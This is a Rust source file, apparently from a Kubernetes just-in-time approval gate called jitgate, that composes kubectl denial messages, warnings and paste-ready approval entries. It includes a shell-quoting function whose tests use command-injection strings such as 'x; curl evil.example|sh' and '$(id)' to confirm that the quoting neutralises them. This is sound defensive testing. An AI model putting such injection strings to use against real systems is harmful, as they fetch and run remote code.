//! Denial messages and warnings, written for the engineer reading them in `kubectl`: what was blocked,
//! by which policy, why, what an approval needs, and an approval entry for exactly this
//! request, ready to paste into the approvals ConfigMap (for a read, shown in a terminal
//! after the API server's own words, the one `kubectl jitgate request` command instead).
//! Built from the request's coordinates and its change fingerprint (paths that change and
//! a hash, never a value).

use crate::approvals::{Approval, ConfigMapRef, Subject, Text, suggested_key};
use crate::decision::{Decision, Outcome, Reason, Request, Requirement};
use crate::duration::human;
use jiff::{RoundMode, Timestamp, TimestampRound, Unit};
use std::fmt::Write;

/// The warnings of a request that goes through: a break-glass use, or a denial that a
/// policy in `warn` mode lets through. None otherwise.
pub fn warnings(req: Request<'_, '_>, d: &Decision) -> Vec<String> {
    match (d.outcome(), &d.reason) {
        (Outcome::Warn, _) => rollout_warnings(req, d),
        (
            Outcome::Allow,
            Reason::BreakGlass {
                approval,
                requirement,
            },
        ) => break_glass_warnings(approval, requirement),
        _ => Vec::new(),
    }
}

/// kubectl prints each warning on its own `Warning:` line; the API server's advice is to
/// keep each under 120 characters.
const WARNING_WIDTH: usize = 120;

fn shorten(mut line: String) -> String {
    if line.chars().count() > WARNING_WIDTH {
        line = line.chars().take(WARNING_WIDTH - 1).collect();
        line.push('…');
    }
    line
}

/// What kubectl shows for a use of a break-glass entry: that it was one, that it is
/// recorded, and that it will be reviewed.
fn break_glass_warnings(a: &Approval, requirement: &Requirement) -> Vec<String> {
    let reviewers: Vec<&str> = match &a.subject {
        Subject::User(u) => a
            .approved_by
            .iter()
            .map(|n| &**n)
            .filter(|n| *n != &**u)
            .collect(),
        Subject::Group(_) => a.approved_by.iter().map(|n| &**n).collect(),
    };
    let review = if reviewers.is_empty() {
        format!(
            "jitgate: it must be reviewed by an approver under policy {}.",
            requirement.policies.join(", ")
        )
    } else {
        format!("jitgate: reviewed by {}.", reviewers.join(", "))
    };
    vec![
        shorten(format!(
            "jitgate: BREAK-GLASS use of {}, allowed and recorded.",
            a.id
        )),
        shorten(review),
    ]
}

/// What kubectl shows when a policy in `warn` mode lets through what it would deny.
fn rollout_warnings(req: Request<'_, '_>, d: &Decision) -> Vec<String> {
    vec![
        shorten(format!(
            "jitgate: policy {} (warn mode) would deny this {} ({}).",
            d.policies().join(", "),
            req.verb(),
            d.code().as_str()
        )),
        shorten(format!(
            "jitgate: once enforced, it needs an approval: {}",
            RequestCommand::For(req)
        )),
    ]
}

/// The reason given with a grant, which the API server records and `kubectl auth can-i`
/// shows: which approval granted it, and until when.
pub fn grant_reason(d: &Decision) -> String {
    match d.approval() {
        Some(a) => format!(
            "jitgate: granted by approval {} (policy {}) until {}",
            a.id,
            d.policies().join(", "),
            a.expires_at
        ),
        None => "jitgate: granted".to_string(),
    }
}

/// The message of a denial. Every reason has its own words: this match has no catch-all
/// arm, so a new reason cannot silently read as another.
pub fn denial_message(req: Request<'_, '_>, d: &Decision) -> String {
    let (home, now) = (&*d.home, d.at);
    let mut m = String::with_capacity(1024);
    let policies = d.policies().join(", ");
    let _ = write!(m, "jitgate: {} is gated by policy {policies}", describe(req));
    let (requirement, why) = match &d.reason {
        Reason::NotGated
        | Reason::Exempt { .. }
        | Reason::Approved { .. }
        | Reason::BreakGlass { .. }
        | Reason::LedgerAccepted { .. }
        | Reason::SignersChanged { .. } => {
            // Not a denial: said plainly, should anything ask.
            return format!("jitgate: {} is allowed ({}).", describe(req), d.code().as_str());
        }
        Reason::LedgerRefused { violation } => return violation.to_string(),
        Reason::ApprovalsStale { silent_for, .. } => {
            let _ = write!(
                m,
                ". jitgate has not heard from the Kubernetes API for {}s, longer than its staleness budget, \
                 so its approvals may be out of date and it grants nothing until it reconnects; \
                 tell the cluster operators.",
                silent_for.as_secs()
            );
            return m;
        }
        Reason::ApprovalsUnavailable { .. } => {
            let _ = write!(
                m,
                ". jitgate has not loaded its approvals yet, so it cannot grant anything now; \
                 retry in a moment, and tell the cluster operators if this persists."
            );
            return m;
        }
        Reason::TooFewApprovers {
            requirement,
            approval: a,
            counted,
            self_approved,
            missing_levels,
            signature_problems,
            ..
        } => {
            let _ = write!(
                m,
                " and approval {:?} has {counted} of the {} approvers it needs{}",
                a.id,
                requirement.min_approvers,
                if *self_approved {
                    " (your own name does not count)"
                } else {
                    ""
                },
            );
            if !a.started() {
                let _ = write!(
                    m,
                    "; its for: clock starts when its last approver signs and writes approvedAt, which nobody has yet"
                );
            }
            if !missing_levels.is_empty() {
                let _ = write!(m, "; still missing: {}", missing_levels.join(", "));
            }
            for problem in signature_problems {
                let _ = write!(m, "; {problem}");
            }
            let _ = write!(
                m,
                ". Ask an approver to add their own username to approvedBy of key {:?} in ConfigMap {} \
                 in namespace {} ({}), or to sign it offline",
                a.key(),
                home.name,
                home.namespace,
                edit_command(home),
            );
            match &d.signing_for {
                Some(b) if !b.cluster.is_empty() => {
                    let _ = write!(
                        m,
                        " for this cluster (export it with kubectl jitgate export {}; the signer runs \
                         jitgate sign --cluster-id {} --namespace {} -f FILE).",
                        a.id, b.cluster, b.namespace
                    );
                }
                _ => m.push_str(" (jitgate sign)."),
            }
            return m;
        }
        Reason::NoApproval { requirement, .. } => (
            requirement,
            format!(
                "no approval matches user {:?} for {} {:?}",
                req.user(),
                req.verb(),
                if req.name().is_empty() {
                    "any name"
                } else {
                    req.name()
                }
            ),
        ),
        Reason::ApprovalExpired {
            requirement,
            approval: a,
            ..
        } => (
            requirement,
            format!("approval {:?} expired at {}", a.id, a.expires_at),
        ),
        Reason::ChangeNotApproved {
            requirement,
            approval: a,
            ..
        } => (
            requirement,
            format!(
                "approval {:?} allows only the change {}, and this request makes another",
                a.id,
                a.rare.change.as_deref().unwrap_or("?")
            ),
        ),
        Reason::BreakGlassNotAllowed {
            requirement,
            approval: a,
            ..
        } => (
            requirement,
            format!(
                "break-glass entry {:?} cannot be used: every gating policy must allow break-glass to a group of yours",
                a.id
            ),
        ),
        Reason::UsesExhausted {
            requirement,
            approval: a,
            ..
        } => (
            requirement,
            format!(
                "approval {:?} has been used {} time{}, all it allows (uses are counted under its key for its whole life, \
                 whatever edits the entry goes through: ask anew, under a new key)",
                a.id,
                a.max_uses.map_or(0, |n| n.get()),
                if a.max_uses.is_some_and(|n| n.get() == 1) {
                    ""
                } else {
                    "s"
                }
            ),
        ),
        Reason::DryRunNotCounted {
            requirement,
            approval: a,
            ..
        } => (
            requirement,
            format!(
                "approval {:?} allows a limited number of uses (maxUses), and does not cover dry runs: they would \
                 not be counted, and the API server may still act on them (a token request) or return the object; \
                 run it for real",
                a.id
            ),
        ),
        Reason::ApprovalExceedsMaxDuration {
            requirement,
            approval: a,
            ..
        } => (
            requirement,
            format!(
                "approval {:?} runs until {}, longer than the {} an approval may last",
                a.id,
                a.expires_at,
                human(requirement.max_duration)
            ),
        ),
    };
    let _ = write!(m, " and needs an approval: {why}.\n{}", needs(requirement));
    let req = match req {
        Request::Access(_) => {
            // Read in a terminal after "is forbidden: User ... cannot get ...:": the one
            // command that files the request, rather than an entry to paste.
            let _ = write!(
                m,
                "\nTo request it: {}",
                RequestCommand::Read(req, requirement.max_duration)
            );
            return m;
        }
        Request::Admission(r) => r,
    };
    let computed;
    let change = match d.reason.change() {
        Some(c) => Some(c),
        None => {
            computed = crate::change::of_recent(req);
            computed.as_ref()
        }
    };
    if let Some(change) = change {
        let _ = write!(
            m,
            "\nThis change is {} ({}). To approve exactly this change, add change: \"{}\" to the entry, and maxUses: 1 to allow it once.",
            change.fingerprint,
            change.summary(),
            change.fingerprint
        );
    }
    let _ = write!(
        m,
        "\nTo request it, save the entry below to a file and run {}, \
         or add it under data: of ConfigMap {} in namespace {} ({}) with your reason; \
         then ask an approver to add their username to approvedBy:\n{}",
        RequestCommand::File,
        home.name,
        home.namespace,
        edit_command(home),
        request_entry(req.into(), requirement, now)
    );
    m
}

/// The one command people are shown to ask for what was refused, in the one spelling they
/// type it: `kubectl jitgate request …` (a denial is read in kubectl's output, so the
/// plugin's name, whatever the server's own program name is). Denials, warnings and the
/// Events of denials all write it through here.
#[derive(Debug, Clone, Copy)]
pub enum RequestCommand<'r, 'a> {
    /// `--resource R [-n NS] [--name N]`: what the request touched.
    For(Request<'r, 'a>),
    /// The same, then `--verb V --for D --reason "..."`: exactly this read, lasting as
    /// long as the policies allow.
    Read(Request<'r, 'a>, jiff::SignedDuration),
    /// `-f FILE --reason "..."`: the paste-ready entry, saved to a file.
    File,
}

impl std::fmt::Display for RequestCommand<'_, '_> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("kubectl jitgate request")?;
        let req = match self {
            RequestCommand::File => return f.write_str(" -f FILE --reason \"...\""),
            RequestCommand::For(req) | RequestCommand::Read(req, _) => req,
        };
        write!(f, " --resource {}", shell_word(&req.resource_path()))?;
        if !req.namespace().is_empty() {
            write!(f, " -n {}", shell_word(req.namespace()))?;
        }
        if !req.name().is_empty() {
            write!(f, " --name {}", shell_word(req.name()))?;
        }
        if let RequestCommand::Read(_, max) = self {
            write!(
                f,
                " --verb {} --for {} --reason \"...\"",
                shell_word(req.verb()),
                human(*max)
            )?;
        }
        Ok(())
    }
}

/// `s` as one word of a POSIX shell: as it is when it holds only `[A-Za-z0-9._:/@=-]`,
/// else in single quotes (a quote inside as `'\''`). A name from a review is anyone's
/// choice: `x; curl …|sh` must read as a name, not as a second command.
pub fn shell_word(s: &str) -> std::borrow::Cow<'_, str> {
    let plain = !s.is_empty()
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || "._:/@=-".contains(c));
    if plain {
        std::borrow::Cow::Borrowed(s)
    } else {
        std::borrow::Cow::Owned(format!("'{}'", s.replace('\'', "'\\''")))
    }
}

fn describe(req: Request<'_, '_>) -> String {
    let mut resource = req.resource().to_string();
    if !req.api_group().is_empty() {
        let _ = write!(resource, ".{}", req.api_group());
    }
    if !req.sub_resource().is_empty() {
        let _ = write!(resource, "/{}", req.sub_resource());
    }
    let name = match (req.name(), req) {
        ("", Request::Admission(_)) => " (new object)".to_string(),
        ("", Request::Access(_)) => String::new(),
        (name, _) => format!(" {name:?}"),
    };
    let place = match (req.namespace(), req) {
        ("", Request::Access(_)) => " in every namespace".to_string(),
        ("", Request::Admission(_)) => String::new(),
        (namespace, _) => format!(" in namespace {namespace:?}"),
    };
    format!("{} of {resource}{name}{place} by {:?}", req.verb(), req.user())
}

fn needs(r: &Requirement) -> String {
    let levels = if r.levels.is_empty() {
        String::new()
    } else {
        let each: Vec<String> = r.levels.iter().map(|l| l.describe(l.count)).collect();
        format!(" ({}, distinct people)", each.join(" and "))
    };
    format!(
        "It needs {} approver{} other than you{levels}, and may last at most {}.",
        r.min_approvers,
        if r.min_approvers == 1 { "" } else { "s" },
        human(r.max_duration)
    )
}

fn edit_command(home: &ConfigMapRef) -> String {
    format!("kubectl edit configmap {} -n {}", home.name, home.namespace)
}

/// A pending approval entry for exactly this request, as YAML under a ConfigMap's `data`.
pub fn request_entry(req: Request<'_, '_>, r: &Requirement, now: Timestamp) -> String {
    let latest = now.checked_add(r.max_duration).unwrap_or(now);
    let expires_at = latest
        .round(
            TimestampRound::new()
                .smallest(Unit::Minute)
                .mode(RoundMode::Trunc),
        )
        .unwrap_or(latest);
    let entry = Approval {
        id: Text::default(),
        subject: Subject::User(req.user().into()),
        resource: req.resource().into(),
        sub_resource: req.sub_resource().into(),
        api_group: Some(req.api_group().into()),
        namespace: req.namespace().into(),
        name: (!req.name().is_empty()).then(|| req.name().into()),
        operations: req.operation().map(|op| [op].into_iter().collect()),
        expires_at,
        reason: "TICKET-123: why you need this".into(),
        approved_by: Default::default(),
        max_uses: None,
        break_glass: false,
        rare: Default::default(),
    };
    let key = suggested_key(
        &[
            req.user(),
            req.namespace(),
            req.resource(),
            req.sub_resource(),
            req.name(),
            req.verb(),
        ],
        now,
    );
    let mut e = String::with_capacity(512);
    let _ = writeln!(e, "  {key}: |");
    entry.write_yaml(&mut e, "    ");
    e.pop();
    e
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::admission::decode;
    use crate::approvals::{Snapshot, parse_entry};
    use crate::decision::{Approvals, Inputs, decide};
    use crate::policy::{PolicySet, parse_policies};
    use jiff::SignedDuration;
    use std::sync::Arc;

    const POLICY: &str = r#"
apiVersion: jitgate.dev/v1alpha1
kind: GatePolicy
metadata: { name: prod-secrets }
spec:
  rules: [{ apiGroups: [""], resources: ["secrets"], operations: ["UPDATE"] }]
  approval: { minApprovers: 2, maxDuration: 90m }
"#;

    fn body() -> String {
        serde_json::json!({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": {
            "uid": "u", "resource": {"group": "", "version": "v1", "resource": "secrets"},
            "namespace": "prod", "name": "db\"pass", "operation": "UPDATE",
            "userInfo": {"username": "alice@example.com", "groups": []},
            "object": {"data": {"password": "Y2FuYXJ5"}}}})
        .to_string()
    }

    fn message(entries: &[&str]) -> String {
        let body = body();
        let req = decode(body.as_bytes()).unwrap();
        let policies = PolicySet::new(parse_policies(POLICY, "p.yaml").unwrap()).unwrap();
        let now: Timestamp = "2026-11-21T20:00:30Z".parse().unwrap();
        let approvals = entries
            .iter()
            .map(|e| Arc::new(parse_entry("jitgate-approvals/k1", e).unwrap()))
            .collect::<Vec<_>>();
        let snapshot = Snapshot::new(approvals, 0, ConfigMapRef::default(), now);
        let inputs = Inputs {
            policies: &policies,
            approvals: Approvals::Loaded(&snapshot),
            now,
        };
        let d = decide(&req, &inputs);
        assert!(!d.allowed());
        denial_message((&req).into(), &d)
    }

    #[test]
    fn the_request_command_is_spelled_one_way_and_names_only_what_the_request_names() {
        let body = body();
        let req = decode(body.as_bytes()).unwrap();
        assert_eq!(
            RequestCommand::For((&req).into()).to_string(),
            "kubectl jitgate request --resource secrets -n prod --name 'db\"pass'"
        );
        let cluster = body
            .replace(r#""namespace":"prod","#, r#""namespace":"","#)
            .replace(r#""name":"db\"pass","#, "");
        let req = decode(cluster.as_bytes()).unwrap();
        assert_eq!(
            RequestCommand::For((&req).into()).to_string(),
            "kubectl jitgate request --resource secrets",
            "a cluster-wide request names no namespace (no -n '')"
        );
        assert_eq!(
            RequestCommand::File.to_string(),
            "kubectl jitgate request -f FILE --reason \"...\""
        );
        assert!(message(&[]).contains(&RequestCommand::File.to_string()));
    }

    #[test]
    fn the_request_command_quotes_a_name_the_shell_would_read_as_more() {
        let body = body().replace(
            r#""name":"db\"pass","#,
            r#""name":"x; curl evil.example|sh 'a'","#,
        );
        let req = decode(body.as_bytes()).unwrap();
        let command = RequestCommand::For((&req).into()).to_string();
        assert_eq!(
            command,
            r#"kubectl jitgate request --resource secrets -n prod --name 'x; curl evil.example|sh '\''a'\'''"#
        );
        // A read's denial (SubjectAccessReview) shows the same quoting.
        let read = RequestCommand::Read((&req).into(), jiff::SignedDuration::from_hours(1)).to_string();
        assert!(read.contains("--name 'x; curl evil.example|sh '"), "{read}");
        assert_eq!(shell_word("db-password.v2@x:y/z=1"), "db-password.v2@x:y/z=1");
        assert_eq!(shell_word(""), "''");
        assert_eq!(shell_word("$(id)"), "'$(id)'");
    }

    #[test]
    fn the_message_says_what_which_policy_and_what_is_needed() {
        let m = message(&[]);
        assert!(m.starts_with("jitgate: UPDATE of secrets \"db\\\"pass\" in namespace \"prod\" by \"alice@example.com\" is gated by policy prod-secrets"), "{m}");
        assert!(
            m.contains("It needs 2 approvers other than you, and may last at most 1h30m."),
            "{m}"
        );
        assert!(
            m.contains("kubectl edit configmap jitgate-approvals -n jitgate-system"),
            "{m}"
        );
        assert!(!m.contains("Y2FuYXJ5"), "object data must never appear");
    }

    #[test]
    fn the_pasted_entry_parses_and_is_exactly_this_request_pending_approval() {
        let m = message(&[]);
        let snippet = &m[m.find("  alice").expect("entry key")..];
        let (key, value) = snippet.split_once(": |\n").unwrap();
        assert_eq!(
            key.trim(),
            "alice-example.com-prod-secrets-db-pass-update-202611212000"
        );
        let value: String = value.lines().map(|l| format!("{}\n", l.trim_start())).collect();
        let a = parse_entry("cm/k", &value).unwrap();
        assert_eq!(a.name.as_deref(), Some("db\"pass"));
        assert_eq!(&*a.namespace, "prod");
        assert!(a.approved_by.is_empty());
        assert_eq!(
            a.expires_at.to_string(),
            "2026-11-21T21:30:00Z",
            "within maxDuration, to the minute"
        );
    }

    #[test]
    fn an_approval_short_of_approvers_points_to_its_key() {
        let entry = "user: alice@example.com\nresource: secrets\nnamespace: prod\nexpiresAt: \"2026-11-21T21:00:00Z\"\nreason: r\napprovedBy: [bob, alice@example.com]\n";
        let m = message(&[entry]);
        assert!(
            m.contains("has 1 of the 2 approvers it needs (your own name does not count)"),
            "{m}"
        );
        assert!(
            m.contains("approvedBy of key \"k1\" in ConfigMap jitgate-approvals"),
            "{m}"
        );
    }

    #[test]
    fn an_expired_approval_is_named_with_its_expiry() {
        let entry = "user: alice@example.com\nresource: secrets\nnamespace: prod\nexpiresAt: \"2026-11-21T19:30:00Z\"\nreason: r\napprovedBy: [bob, carol]\n";
        let m = message(&[entry]);
        assert!(
            m.contains("approval \"jitgate-approvals/k1\" expired at 2026-11-21T19:30:00Z"),
            "{m}"
        );
    }

    #[test]
    fn durations_read_naturally() {
        assert_eq!(human(SignedDuration::from_hours(4)), "4h");
        assert_eq!(human(SignedDuration::from_mins(45)), "45m");
        assert_eq!(human(SignedDuration::from_mins(150)), "2h30m");
    }
}
